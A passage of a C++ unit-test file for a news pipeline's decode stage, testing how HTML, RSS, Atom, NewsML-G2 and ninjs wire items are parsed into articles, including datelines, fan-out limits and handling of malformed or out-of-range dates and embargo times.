// Format decoders (HTML, RSS, Atom, NewsML-G2 newsMessage fan-out, ninjs
// tolerance), safety limits (XXE, entity bombs, nesting, size) and textual
// datelines and credits. Corpus-wide golden tests are in tests/golden/.
#include <memory>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "pipeline/stage_registry.h"
#include "stages/common/spans.h"
#include "stages/decode/decode.h"
#include "stages/decode/wire_time.h"
#include "stages/quotes/quotes.h"
#include "stages/segment/segment.h"
#include "tests/stages/testing/status_matchers.h"

namespace newsd::stages {
namespace {

using ::newsd::testing::IsOk;
using ::newsd::testing::StatusIs;
using ::testing::Contains;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

constexpr absl::StatusCode kInvalid = absl::StatusCode::kInvalidArgument;
constexpr absl::StatusCode kExhausted = absl::StatusCode::kResourceExhausted;

// All articles of one message (the first, then the fanned-out ones).
absl::StatusOr<std::vector<v1::Article>> DecodeAll(absl::string_view payload,
                                                   absl::string_view content_type = "",
                                                   DecodeOptions options = {}) {
  v1::Article article;
  article.set_id("news.raw/3/9");
  article.mutable_source()->set_topic("news.raw");
  article.mutable_source()->set_content_type(std::string(content_type));
  std::vector<v1::Article> more;
  StageContext ctx;
  ctx.payload = payload;
  ctx.more_articles = &more;
  if (absl::Status s = DecodeStage(options).Process(article, ctx); !s.ok()) return s;
  more.insert(more.begin(), std::move(article));
  return more;
}

absl::StatusOr<v1::Article> Decode(absl::string_view payload, absl::string_view content_type = "",
                                   DecodeOptions options = {}) {
  absl::StatusOr<std::vector<v1::Article>> all = DecodeAll(payload, content_type, options);
  if (!all.ok()) return all.status();
  return all->front();
}

std::string Span(const v1::Article& a, const v1::Span& s) {
  absl::StatusOr<absl::string_view> t = SpanText(a.text(), s);
  return t.ok() ? std::string(*t) : "<bad span>";
}

std::vector<std::string> Paragraphs(const v1::Article& a) {
  std::vector<std::string> out;
  for (const v1::Span& p : a.paragraphs()) out.push_back(Span(a, p));
  return out;
}

// ---- HTML ---------------------------------------------------------------------------

TEST(HtmlTest, MainTextWithoutBoilerplateAndOpenGraphMetadata) {
  absl::StatusOr<v1::Article> a = Decode(R"(<!DOCTYPE html>
<html lang="en-GB"><head>
<meta charset="utf-8"><title>Talks resume | Example News</title>
<meta property="og:title" content="Talks resume in Geneva">
<meta property="og:url" content="https://news.example.com/world/talks-resume">
<meta property="og:site_name" content="Example News">
<meta property="article:published_time" content="2013-09-12T10:15:00+02:00">
<meta name="author" content="Jane Smith">
<meta name="keywords" content="Syria, diplomacy">
<script>var tracking = "<p>not text</p>";</script><style>p{color:red}</style>
</head><body>
<header class="masthead"><nav><a href="/">Home</a> <a href="/world">World</a></nav></header>
<div class="share-bar">Share on Facebook</div>
<article>
  <h1>Talks resume in Geneva</h1>
  <p>GENEVA, Sept 12 (Reuters) - Talks on Syria resumed on <b>Thursday</b>,
     diplomats&nbsp;said.</p>
  <figure><img src="x.jpg"><figcaption>A photo caption</figcaption></figure>
  <p>&ldquo;We are hopeful,&rdquo; one said.</p>
  <aside class="related">Related: other stories</aside>
  <p>(Reporting by Jane Smith; Editing by Tom Brown)</p>
</article>
<footer>Copyright 2013 Example News. <a href="/privacy">Privacy</a></footer>
<div id="cookie-consent">We use cookies</div>
</body></html>)");
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->format(), v1::FORMAT_HTML);
  EXPECT_EQ(Span(*a, a->headline()), "Talks resume in Geneva");
  EXPECT_THAT(Paragraphs(*a),
              ElementsAre("GENEVA, Sept 12 (Reuters) - Talks on Syria resumed on Thursday, "
                          "diplomats said.",
                          "\u201cWe are hopeful,\u201d one said."));
  EXPECT_THAT(a->credits(), ElementsAre("(Reporting by Jane Smith; Editing by Tom Brown)"));
  EXPECT_EQ(a->dateline().place(), "GENEVA");
  EXPECT_EQ(a->dateline().date(), "Sept 12");
  EXPECT_EQ(a->dateline().agency(), "Reuters");
  EXPECT_EQ(Span(*a, a->dateline().span()), "GENEVA, Sept 12 (Reuters) -");
  EXPECT_EQ(a->wire().url(), "https://news.example.com/world/talks-resume");
  EXPECT_EQ(a->id(), "https://news.example.com/world/talks-resume");
  EXPECT_EQ(a->wire().provider(), "Example News");
  EXPECT_EQ(a->wire().declared_language(), "en-GB");
  EXPECT_EQ(a->byline_text(), "Jane Smith");
  EXPECT_THAT(a->wire().keywords(), ElementsAre("Syria", "diplomacy"));
  EXPECT_EQ(a->published_at().seconds(), 1378973700);  // 2013-09-12T08:15:00Z
  // &nbsp; is markup white space, collapsed by the parser: no repair to report.
  EXPECT_THAT(a->flags(), IsEmpty());
}

TEST(HtmlTest, TagSoupWithoutArticleUsesBody) {
  absl::StatusOr<v1::Article> a =
      Decode("<html><body><h1>Flood warning<p>Rivers rose<br>overnight.<p>Roads closed", "text/html");
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(Span(*a, a->headline()), "Flood warning");
  EXPECT_THAT(Paragraphs(*a), ElementsAre("Rivers rose", "overnight.", "Roads closed"));
}

// ---- RSS and Atom -------------------------------------------------------------------

TEST(FeedTest, RssItemsFanOut) {
  absl::StatusOr<std::vector<v1::Article>> all = DecodeAll(R"(<?xml version="1.0"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"
     xmlns:content="http://purl.org/rss/1.0/modules/content/">
<channel><title>Example Wire</title><language>en-us</language>
<item><title>First &amp; foremost</title><link>https://ex.com/1</link>
  <guid isPermaLink="false">ex-1</guid><pubDate>Thu, 12 Sep 2013 10:00:00 GMT</pubDate>
  <description>&lt;p&gt;Para one.&lt;/p&gt;&lt;p&gt;Para &amp;amp;quot;two&amp;amp;quot;.&lt;/p&gt;</description>
  <dc:creator>Jane Smith</dc:creator><category>World</category></item>
<item><title>Second</title><link>https://ex.com/2</link>
  <pubDate>Thu, 12 Sep 2013 11:30:00 EDT</pubDate>
  <content:encoded><![CDATA[<p>Full <b>text</b>.</p>]]></content:encoded>
  <description>Short.</description></item>
</channel></rss>)");
  ASSERT_THAT(all, IsOk());
  ASSERT_EQ(all->size(), 2u);
  const v1::Article& a = (*all)[0];
  EXPECT_EQ(a.format(), v1::FORMAT_RSS);
  EXPECT_EQ(a.text(), "First & foremost\n\nPara one.\n\nPara \"two\".");
  EXPECT_EQ(a.id(), "ex-1");
  EXPECT_EQ(a.wire().url(), "https://ex.com/1");
  EXPECT_EQ(a.wire().provider(), "Example Wire");
  EXPECT_EQ(a.wire().declared_language(), "en-US");  // <language>en-us</language>
  EXPECT_EQ(a.byline_text(), "Jane Smith");
  EXPECT_THAT(a.wire().keywords(), ElementsAre("World"));
  EXPECT_EQ(a.published_at().seconds(), 1378980000);
  EXPECT_THAT(a.flags(), ElementsAre("entities_decoded"));
  const v1::Article& b = (*all)[1];
  EXPECT_EQ(b.text(), "Second\n\nFull text.");
  EXPECT_EQ(b.id(), "https://ex.com/2");  // no guid: the link
  EXPECT_EQ(b.published_at().seconds(), 1378999800);  // 11:30 EDT = 15:30Z
  EXPECT_EQ(b.source().topic(), "news.raw");
}

TEST(FeedTest, AtomEntriesWithTextHtmlAndXhtmlContent) {
  absl::StatusOr<std::vector<v1::Article>> all = DecodeAll(R"(<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="fr">
  <title>Fil Exemple</title>
  <entry><title>Un</title><id>urn:uuid:1</id><link href="https://ex.fr/1"/>
    <published>2013-09-12T10:00:00+02:00</published><updated>2013-09-12T11:00:00Z</updated>
    <author><name>Marie Curie</name></author><category term="monde" label="Monde"/>
    <content type="html">&lt;p&gt;Premier.&lt;/p&gt;</content></entry>
  <entry><title>Deux</title><id>urn:uuid:2</id><updated>2013-09-13T08:00:00Z</updated>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Deuxième.</p><p>Fin.</p></div></content></entry>
  <entry><title>Trois</title><id>urn:uuid:3</id><summary>Ligne un
Ligne deux</summary></entry>
</feed>)");
  ASSERT_THAT(all, IsOk());
  ASSERT_EQ(all->size(), 3u);
  EXPECT_EQ((*all)[0].format(), v1::FORMAT_ATOM);
  EXPECT_EQ((*all)[0].text(), "Un\n\nPremier.");
  EXPECT_EQ((*all)[0].wire().url(), "https://ex.fr/1");
  EXPECT_EQ((*all)[0].wire().provider(), "Fil Exemple");
  EXPECT_EQ((*all)[0].wire().declared_language(), "fr");
  EXPECT_EQ((*all)[0].byline_text(), "Marie Curie");
  EXPECT_THAT((*all)[0].wire().keywords(), ElementsAre("Monde"));
  EXPECT_EQ((*all)[0].published_at().seconds(), 1378972800);  // 08:00Z
  EXPECT_EQ((*all)[0].wire().version_created().seconds(), 1378983600);
  EXPECT_EQ((*all)[1].text(), "Deux\n\nDeuxi\u00e8me.\n\nFin.");
  EXPECT_EQ((*all)[1].published_at().seconds(), 1379059200);  // updated
  EXPECT_EQ((*all)[2].text(), "Trois\n\nLigne un\n\nLigne deux");
  EXPECT_EQ((*all)[2].id(), "urn:uuid:3");
}

TEST(FeedTest, MaxItemsTruncatesTheFanOut) {
  std::string rss = "<rss><channel>";
  for (int i = 0; i < 5; ++i) absl::StrAppend(&rss, "<item><title>T", i, "</title></item>");
  absl::StrAppend(&rss, "</channel></rss>");
  DecodeOptions options;
  options.limits.max_items = 2;
  absl::StatusOr<std::vector<v1::Article>> all = DecodeAll(rss, "", options);
  ASSERT_THAT(all, IsOk());
  ASSERT_EQ(all->size(), 2u);
  EXPECT_THAT((*all)[0].flags(), Contains("items_truncated"));
  EXPECT_EQ((*all)[1].id(), "news.raw/3/9#2");
}

// ---- NewsML-G2 newsMessage ------------------------------------------------------------

constexpr absl::string_view kNewsMessage = R"(<?xml version="1.0" encoding="UTF-8"?>
<newsMessage xmlns="http://iptc.org/std/nar/2006-10-01/">
  <header><sent>2013-09-12T10:00:00Z</sent></header>
  <itemSet>
    <newsItem guid="urn:newsml:ex.com:20130912:a" version="2" xml:lang="en">
      <itemMeta><itemClass qcode="ninat:text"/><provider qcode="nprov:EX"/>
        <versionCreated>2013-09-12T09:59:00Z</versionCreated>
        <pubStatus qcode="stat:withheld"/></itemMeta>
      <contentMeta><urgency>2</urgency><slugline>SYRIA-TALKS</slugline>
        <headline>Talks resume</headline><by>By Jane Smith</by>
        <dateline>GENEVA, Sept 12 (Reuters) -</dateline>
        <subject qcode="medtop:11000000"/><keyword>diplomacy</keyword></contentMeta>
      <contentSet><inlineXML contenttype="application/xhtml+xml">
        <html xmlns="http://www.w3.org/1999/xhtml"><body>
          <p>GENEVA, Sept 12 (Reuters) - Talks resumed.</p><p>More later.</p>
        </body></html></inlineXML></contentSet>
    </newsItem>
    <newsItem guid="urn:newsml:ex.com:20130912:b" version="1">
      <itemMeta><pubStatus qcode="stat:canceled"/></itemMeta>
      <contentMeta><headline>Withdrawn</headline></contentMeta>
      <contentSet><inlineData contenttype="text/plain">Line one.

Line two.</inlineData></contentSet>
    </newsItem>
    <newsItem guid="urn:newsml:ex.com:20130912:empty"/>
  </itemSet>
</newsMessage>)";

TEST(NewsMlG2Test, NewsMessageFansOutOneArticlePerItem) {
  absl::StatusOr<std::vector<v1::Article>> all = DecodeAll(kNewsMessage);
  ASSERT_THAT(all, IsOk());
  ASSERT_EQ(all->size(), 2u);  // the empty item is skipped
  const v1::Article& a = (*all)[0];
  EXPECT_EQ(a.id(), "urn:newsml:ex.com:20130912:a");
  EXPECT_EQ(a.wire().version(), 2u);
  EXPECT_EQ(a.wire().pub_status(), v1::PUB_STATUS_WITHHELD);
  EXPECT_EQ(a.wire().urgency(), 2u);
  EXPECT_EQ(a.wire().slugline(), "SYRIA-TALKS");
  EXPECT_EQ(a.wire().provider(), "EX");
  EXPECT_THAT(a.wire().subjects(), ElementsAre("medtop:11000000"));
  EXPECT_THAT(a.wire().keywords(), ElementsAre("diplomacy"));
  EXPECT_EQ(a.byline_text(), "By Jane Smith");
  EXPECT_EQ(a.dateline().place(), "GENEVA");
  EXPECT_EQ(a.dateline().date(), "Sept 12");
  EXPECT_EQ(a.dateline().agency(), "Reuters");
  EXPECT_EQ(Span(a, a.dateline().span()), "GENEVA, Sept 12 (Reuters) -");
  EXPECT_EQ(a.text(), "Talks resume\n\nGENEVA, Sept 12 (Reuters) - Talks resumed.\n\nMore later.");
  EXPECT_THAT(a.flags(), ElementsAre("items_skipped"));
  const v1::Article& b = (*all)[1];
  EXPECT_EQ(b.id(), "urn:newsml:ex.com:20130912:b");
  EXPECT_EQ(b.wire().pub_status(), v1::PUB_STATUS_CANCELED);
  EXPECT_EQ(b.text(), "Withdrawn\n\nLine one.\n\nLine two.");
}

TEST(NewsMlG2Test, WithoutFanOutOnlyTheFirstItemIsKept) {
  v1::Article article;
  StageContext ctx;
  ctx.payload = kNewsMessage;
  ASSERT_THAT(DecodeStage(DecodeOptions{}).Process(article, ctx), IsOk());
  EXPECT_EQ(article.id(), "urn:newsml:ex.com:20130912:a");
  EXPECT_THAT(article.flags(), Contains("more_items_dropped"));
}

// ---- ninjs tolerance ------------------------------------------------------------------

TEST(NinjsTest, WrongTypesAndNullsAreIgnored) {
  absl::StatusOr<v1::Article> a = Decode(R"({
    "uri": "urn:x:1", "version": 3, "urgency": "2", "pubstatus": "usable",
    "headline": null, "headlines": [{"role": "sub", "value": "Sub"},
                                   {"role": "main", "value": "Main headline"}],
    "byline": {"x": 1}, "by": [{"name": "A. Writer"}, {"name": "B. Editor"}],
    "subjects": [{"uri": "medtop:04000000"}, {"name": "Economy"}, 42, {"code": "X1", "scheme": "ex"}],
    "bodies": {"not": "an array"}, "body_text": "One.\n\nTwo.",
    "versioncreated": "not a date", "located": "Oslo"})");
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->text(), "Main headline\n\nOne.\n\nTwo.");
  EXPECT_EQ(a->wire().version(), 3u);
  EXPECT_EQ(a->wire().urgency(), 2u);
  EXPECT_EQ(a->byline_text(), "A. Writer, B. Editor");
  EXPECT_THAT(a->wire().subjects(), ElementsAre("medtop:04000000", "ex:X1"));
  EXPECT_THAT(a->wire().keywords(), ElementsAre("Economy"));
  EXPECT_EQ(a->wire().located(), "Oslo");
  EXPECT_FALSE(a->wire().has_version_created());
  EXPECT_THAT(a->flags(), ElementsAre("date_unparsed", "ninjs_field_ignored"));
}

TEST(NinjsTest, EmbargoTimesAreReadOrTheItemIsRejected) {
  auto ninjs = [](const std::string& embargoed) {
    return Decode(absl::StrCat(R"({"uri": "urn:e:1", "headline": "H", "body_text": "B.", )",
                               R"("embargoed": ")", embargoed, R"("})"));
  };
  // RFC 3339 with a space for "T", and a zone name after a space.
  for (const char* value : {"2027-12-02T05:00:00Z", "2027-12-02 05:00:00Z",
                            "2027-12-02T05:00:00 UTC", "2027-12-02 06:00:00+01:00"}) {
    absl::StatusOr<v1::Article> a = ninjs(value);
    ASSERT_THAT(a, IsOk()) << value;
    EXPECT_EQ(a->wire().embargo_until().seconds(), 1827723600) << value;  // 2027-12-02T05:00Z
  }
  // Unreadable: rejected (a dead letter), never published before its embargo.
  for (const char* value : {"not a date", "2026-13-45T99:99:99Z"}) {
    EXPECT_THAT(ninjs(value), StatusIs(kInvalid, HasSubstr("embargo time"))) << value;
  }
}

TEST(NinjsTest, MalformedAndNonObjectJson) {
  EXPECT_THAT(Decode("{\"uri\": \"x\", \"headline\": \"H\""),
              StatusIs(kInvalid, HasSubstr("ninjs: invalid JSON at byte 29")));
  for (const char* value : {"[1, 2]", "\"text\"", "42"}) {
    EXPECT_THAT(Decode(value, "application/ninjs+json"),
                StatusIs(kInvalid,
                         "ninjs: top-level value is neither an object nor an array of objects"))
        << value;
  }
  EXPECT_THAT(Decode("[]", "application/ninjs+json"),
              StatusIs(kInvalid, "ninjs: empty collection (a JSON array without items)"));
}

// ---- ninjs variants of real feeds ------------------------------------------------------

TEST(NinjsTest, BodyTextArrayGuidEpochDatesAndMetadata) {
  // An item as feeds built from JavaScript objects send it: "guid" instead of
  // "uri", dates in epoch milliseconds, body_text as an array of paragraphs.
  absl::StatusOr<v1::Article> a = Decode(R"({
  "guid": "urn:newsml:wire.example.com:20240301:budget-vote",
  "type": "text",
  "language": "EN-gb",
  "versioncreated": 1709290800000,
  "firstcreated": 1709287200000,
  "headline": "Parliament passes budget after late-night vote",
  "byline": "By Jane Smith",
  "subject": [{"code": "04000000", "scheme": "medtop", "name": "economy, business and finance"},
              {"name": "Politics"}],
  "keywords": ["budget", "parliament"],
  "body_text": ["LONDON, March 1 (Reuters) - Parliament passed the budget on Friday.",
                "The vote was 320 to 250.", "", "Ministers welcomed the result."]
})");
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->id(), "urn:newsml:wire.example.com:20240301:budget-vote");
  EXPECT_EQ(a->wire().guid(), "urn:newsml:wire.example.com:20240301:budget-vote");
  EXPECT_EQ(a->text(),
            "Parliament passes budget after late-night vote\n\n"
            "LONDON, March 1 (Reuters) - Parliament passed the budget on Friday.\n\n"
            "The vote was 320 to 250.\n\nMinisters welcomed the result.");
  EXPECT_EQ(a->paragraphs_size(), 3);
  EXPECT_EQ(a->dateline().place(), "LONDON");
  EXPECT_EQ(a->wire().version_created().seconds(), 1709290800);  // 2024-03-01T11:00:00Z
  EXPECT_EQ(a->wire().first_created().seconds(), 1709287200);
  EXPECT_EQ(a->published_at().seconds(), 1709290800);
  EXPECT_EQ(a->wire().declared_language(), "en-GB");
  EXPECT_EQ(a->byline_text(), "By Jane Smith");
  EXPECT_THAT(a->wire().subjects(), ElementsAre("medtop:04000000"));
  EXPECT_THAT(a->wire().keywords(), ElementsAre("Politics", "budget", "parliament"));
  EXPECT_THAT(a->flags(), IsEmpty());
}

TEST(NinjsTest, EpochTimesInSecondsOrMilliseconds) {
  auto version_created = [](const std::string& value) -> absl::StatusOr<v1::Article> {
    return Decode(absl::StrCat(
        R"({"uri": "urn:t:1", "headline": "H", "body_text": "B.", "versioncreated": )", value,
        "}"));
  };
  // 2024-03-01T11:00:00Z as a number or as digits, in milliseconds or seconds.
  for (const char* value : {"1709290800000", "1709290800", "1709290800000.0", "1709290800.0",
                            R"("1709290800000")", R"("1709290800")",
                            R"("2024-03-01T11:00:00Z")"}) {
    absl::StatusOr<v1::Article> a = version_created(value);
    ASSERT_THAT(a, IsOk()) << value;
    EXPECT_EQ(a->wire().version_created().seconds(), 1709290800) << value;
    EXPECT_EQ(a->published_at().seconds(), 1709290800) << value;
    EXPECT_THAT(a->flags(), IsEmpty()) << value;
  }
  absl::StatusOr<v1::Article> a = version_created("1709290800250");
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->wire().version_created().nanos(), 250000000);
  // Other digit strings are dates as written: ISO 8601 basic, or unreadable.
  a = version_created(R"("20240301")");
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->wire().version_created().seconds(), 1709251200);  // 2024-03-01T00:00:00Z
  a = version_created(R"("170929080")");
  ASSERT_THAT(a, IsOk());
  EXPECT_FALSE(a->wire().has_version_created());
  EXPECT_THAT(a->flags(), ElementsAre("date_unparsed"));
  // ninjs 3.x camelCase, embargoedUntil; published_at falls back to firstCreated.
  a = Decode(R"({"uri": "urn:t:2", "headline": "H", "firstCreated": 1709287200000,
                 "embargoedUntil": 1709377200000})");
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->wire().first_created().seconds(), 1709287200);
  EXPECT_EQ(a->published_at().seconds(), 1709287200);
  EXPECT_EQ(a->wire().embargo_until().seconds(), 1709377200);  // 2024-03-02T11:00:00Z
}

TEST(NinjsTest, NitfBodyIsReadAsNitf) {
  absl::StatusOr<v1::Article> a = Decode(R"({
  "uri": "urn:t:nitf",
  "headline": "Tide tables for Norfolk",
  "body_nitf": "<?xml version='1.0' encoding='UTF-8'?>\n<nitf xml:lang='en-us'><head><title>Tides</title><docdata><doc-id id-string='nitf-1' regsrc='Example Wire'/><urgency ed-urg='2'/><key-list><keyword key='tides'/></key-list></docdata></head><body><body.head><hedline><hl1>Tides</hl1></hedline><byline>By <person>Alan Karben</person></byline><dateline><location>Norfolk, VA</location></dateline></body.head><body.content><p>High tide is at 5:12 a.m.</p><table><tr><td>Oceanview 31</td></tr></table><p>Low tide is at 11:30 a.m.</p></body.content><body.end><tagline>Jane Doe contributed to this report.</tagline></body.end></body></nitf>"
})");
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->text(),
            "Tide tables for Norfolk\n\nHigh tide is at 5:12 a.m.\n\nLow tide is at 11:30 a.m.");
  // The ninjs item's own fields win; the NITF fills the others.
  EXPECT_EQ(a->wire().guid(), "urn:t:nitf");
  EXPECT_EQ(a->wire().provider(), "Example Wire");
  EXPECT_EQ(a->wire().urgency(), 2u);
  EXPECT_THAT(a->wire().keywords(), ElementsAre("tides"));
  EXPECT_EQ(a->byline_text(), "By Alan Karben");
  EXPECT_EQ(a->dateline().place(), "Norfolk, VA");
  EXPECT_THAT(a->credits(), ElementsAre("Jane Doe contributed to this report."));
  EXPECT_EQ(a->wire().declared_language(), "en-US");
  EXPECT_EQ(a->format(), v1::FORMAT_NINJS);
}

TEST(NinjsTest, NitfBodiesWhereverTheyAreAndHowEverLabelled) {
  constexpr absl::string_view kNitf =
      R"(<nitf><body><body.content><p>One.</p><p>Two.</p></body.content></body></nitf>)";
  for (const std::string& body :
       {absl::StrCat(R"("bodies": [{"contentType": "application/nitf+xml", "value": ")", kNitf,
                     R"("}])"),
        absl::StrCat(R"("bodies": [{"value": ")", kNitf, R"("}])"),
        absl::StrCat(R"("body_html": ")", kNitf, R"(")"),
        absl::StrCat(R"("body_text": ")", kNitf, R"(")"),
        // Declared NITF that is no well-formed NITF: read as HTML.
        std::string(R"("body_nitf": "<body.content><p>One.<p>Two.</body.content>")")}) {
    absl::StatusOr<v1::Article> a =
        Decode(absl::StrCat(R"({"uri": "urn:t:n", "headline": "H", )", body, "}"));
    ASSERT_THAT(a, IsOk()) << body;
    EXPECT_EQ(a->text(), "H\n\nOne.\n\nTwo.") << body;
  }
}

TEST(NinjsTest, XhtmlBodyInBodyHtml) {
  absl::StatusOr<v1::Article> a = Decode(R"({
  "uri": "urn:t:xhtml",
  "headline": "Budget passes",
  "body_html": "<?xml version='1.0' encoding='UTF-8'?>\n<!DOCTYPE html PUBLIC '-//W3C//DTD XHTML 1.0 Strict//EN' 'http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd'>\n<html xmlns='http://www.w3.org/1999/xhtml' xml:lang='en-GB'><head><title>Budget passes</title></head><body><h1>Budget passes</h1><p>The first <em>paragraph</em>.</p><p>The second paragraph.</p></body></html>"
})");
  ASSERT_THAT(a, IsOk());
  // The <h1> repeating the headline is dropped, as for HTML pages.
  EXPECT_EQ(a->text(), "Budget passes\n\nThe first paragraph.\n\nThe second paragraph.");
  EXPECT_EQ(a->wire().declared_language(), "en-GB");  // the item has no "language"
}

TEST(NinjsTest, XhtmlBodyInBodies) {
  // ninjs 3: camelCase, an XHTML body preferred to the plain one.
  absl::StatusOr<v1::Article> a = Decode(R"({
  "uri": "urn:t:bodies3",
  "headlines": [{"role": "main", "value": "Budget passes"}],
  "bodies": [{"role": "main", "contentType": "text/plain", "value": "Plain version."},
             {"role": "main", "contentType": "application/xhtml+xml",
              "value": "<div xmlns='http://www.w3.org/1999/xhtml'><p>First paragraph.</p><p>Second &amp; last.</p></div>"}]
})");
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->text(), "Budget passes\n\nFirst paragraph.\n\nSecond & last.");
  // ninjs 2: XHTML in an entry labelled text/plain, or not labelled at all.
  for (const char* entry :
       {R"({"contenttype": "text/plain", "value": "<p>First paragraph.</p><p>Second &amp; last.</p>"})",
        R"({"role": "main", "value": "<body><p>First paragraph.</p><p>Second &amp; last.</p></body>"})"}) {
    a = Decode(absl::StrCat(R"({"uri": "urn:t:bodies2", "headline": "Budget passes", "bodies": [)",
                            entry, "]}"));
    ASSERT_THAT(a, IsOk()) << entry;
    EXPECT_EQ(a->text(), "Budget passes\n\nFirst paragraph.\n\nSecond & last.") << entry;
  }
  // Text with angle brackets but no element is still text.
  a = Decode(R"({"uri": "urn:t:lt", "headline": "H",
                 "bodies": [{"contentType": "text/plain", "value": "<Reuters> says 3 < 4.\n\nNext."}]})");
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->text(), "H\n\n<Reuters> says 3 < 4.\n\nNext.");
}

constexpr absl::string_view kNinjsCollection = R"([
  {"uri": "urn:t:c1", "headline": "First story", "body_text": "One."},
  {"guid": "urn:t:c2", "headline": "Second story", "body_html": "<p>Two.</p>", "language": "DE"},
  {"headline": "Third story", "body_text": ["Three."], "versioncreated": 1709290800000}
])";

TEST(NinjsTest, CollectionFansOutOneArticlePerItem) {
  for (const char* content_type : {"", "application/ninjs+json", "application/json"}) {
    SCOPED_TRACE(content_type);
    absl::StatusOr<std::vector<v1::Article>> all = DecodeAll(kNinjsCollection, content_type);
    ASSERT_THAT(all, IsOk());
    ASSERT_EQ(all->size(), 3u);
    const std::vector<v1::Article>& a = *all;
    EXPECT_EQ(a[0].id(), "urn:t:c1");
    EXPECT_EQ(a[0].text(), "First story\n\nOne.");
    EXPECT_EQ(a[1].id(), "urn:t:c2");
    EXPECT_EQ(a[1].text(), "Second story\n\nTwo.");
    EXPECT_EQ(a[1].wire().declared_language(), "de");
    EXPECT_EQ(a[2].id(), "news.raw/3/9#3");  // no uri or guid: the message id, numbered
    EXPECT_EQ(a[2].wire().guid(), "");
    EXPECT_EQ(a[2].text(), "Third story\n\nThree.");
    EXPECT_EQ(a[2].published_at().seconds(), 1709290800);
    for (const v1::Article& article : a) {
      EXPECT_EQ(article.format(), v1::FORMAT_NINJS);
      EXPECT_EQ(article.source().topic(), "news.raw");
      EXPECT_THAT(article.flags(), IsEmpty());
    }
  }
}

TEST(NinjsTest, CollectionLimitsAndEntriesThatAreNoItems) {
  DecodeOptions options;
  options.limits.max_items = 2;
  absl::StatusOr<std::vector<v1::Article>> all = DecodeAll(kNinjsCollection, "", options);
  ASSERT_THAT(all, IsOk());
  ASSERT_EQ(all->size(), 2u);
  EXPECT_THAT(all->front().flags(), ElementsAre("items_truncated"));
  // (Declared here; sniffing also takes it: an array holding an object.)
  all = DecodeAll(R"([1, {"uri": "urn:t:d", "headline": "Only item"}, "x", null])",
                  "application/ninjs+json");
  ASSERT_THAT(all, IsOk());
  ASSERT_EQ(all->size(), 1u);
  EXPECT_EQ(all->front().id(), "urn:t:d");
  EXPECT_THAT(all->front().flags(), ElementsAre("items_skipped", "body_empty"));
  // Without fan-out only the first item is kept.
  v1::Article article;
  StageContext ctx;
  ctx.payload = kNinjsCollection;
  ASSERT_THAT(DecodeStage(DecodeOptions{}).Process(article, ctx), IsOk());
  EXPECT_EQ(article.id(), "urn:t:c1");
  EXPECT_THAT(article.flags(), Contains("more_items_dropped"));
}

// An embargo that is present but cannot be read as a plausible time — out of
// range, not a number or string, blank — is a dead letter, never published at once
// or held "forever" (2262).
TEST(NinjsTest, UnreadableOrOutOfRangeEmbargoIsADeadLetter) {
  for (const char* name : {"embargoed", "embargoedUntil"}) {
    for (const char* value : {"1e300", "99999999999999999999", "-99999999999999999999",
                              "9223372036854775807", "99999999999", "253402300800000",
                              R"("")", R"("  ")", "true", "[1]", "{}",
                              R"("9999-12-31T00:00:00Z")", R"("1850-01-01T00:00:00Z")"}) {
      const std::string payload =
          absl::StrCat(R"({"guid":"e","headline":"H","body_text":"B.",")", name, R"(":)", value,
                       "}");
      EXPECT_THAT(Decode(payload), StatusIs(kInvalid, HasSubstr("embargo time")))
          << name << " " << value;
    }
  }
  // null is absent; a plausible time is held.
  absl::StatusOr<v1::Article> a =
      Decode(R"({"guid":"e","headline":"H","body_text":"B.","embargoed":null})");
  ASSERT_THAT(a, IsOk());
  EXPECT_FALSE(a->wire().has_embargo_until());
  a = Decode(R"({"guid":"e","headline":"H","body_text":"B.","embargoed":"2199-12-31T00:00:00Z"})");
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->wire().embargo_until().seconds(), 7258032000);
  // An unreadable embargoedUntil beside a readable embargoed still rejects it.
  EXPECT_THAT(Decode(R"({"guid":"e","headline":"H","body_text":"B.",)"
                     R"("embargoed":"2027-12-02T05:00:00Z","embargoedUntil":true})"),
              StatusIs(kInvalid, HasSubstr("embargo time")));
}

// Dates out of 1900..2199 or unreadable are flagged date_unparsed and not used
// (before: 2262-04-11T23:47:16.854775807Z, 1677, or silently nothing).
TEST(NinjsTest, DatesOutOfRangeOrUnreadableAreFlaggedNotUsed) {
  for (const char* value : {"99999999999", "253402300800000", "9223372036854775807",
                            "18446744073709551615", R"("9999-12-31T00:00:00Z")",
                            "-99999999999999999", "1e300", "99999999999999999999",
                            R"("1899-12-31T23:59:59Z")", R"("2200-01-01T00:00:00Z")", R"("")",
                            "true", "[1]", "{}"}) {
    absl::StatusOr<v1::Article> a = Decode(absl::StrCat(
        R"({"guid":"e","headline":"H","body_text":"B.","versioncreated":)", value, "}"));
    ASSERT_THAT(a, IsOk()) << value;
    EXPECT_FALSE(a->wire().has_version_created()) << value;
    EXPECT_FALSE(a->has_published_at()) << value;
    EXPECT_THAT(a->flags(), ElementsAre("date_unparsed")) << value;
  }
  // The bounds, and firstcreated used when versioncreated is out of range.
  absl::StatusOr<v1::Article> a = Decode(
      R"({"guid":"e","headline":"H","body_text":"B.","versioncreated":"2199-12-31T23:59:59Z"})");
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->published_at().seconds(), 7258118399);
  a = Decode(R"({"guid":"e","headline":"H","body_text":"B.","versioncreated":-2208988800})");
  ASSERT_THAT(a, IsOk());
  EXPECT_EQ(a->published_at().seconds(), -2208988800);  // 1900-01-01T00:00:00Z
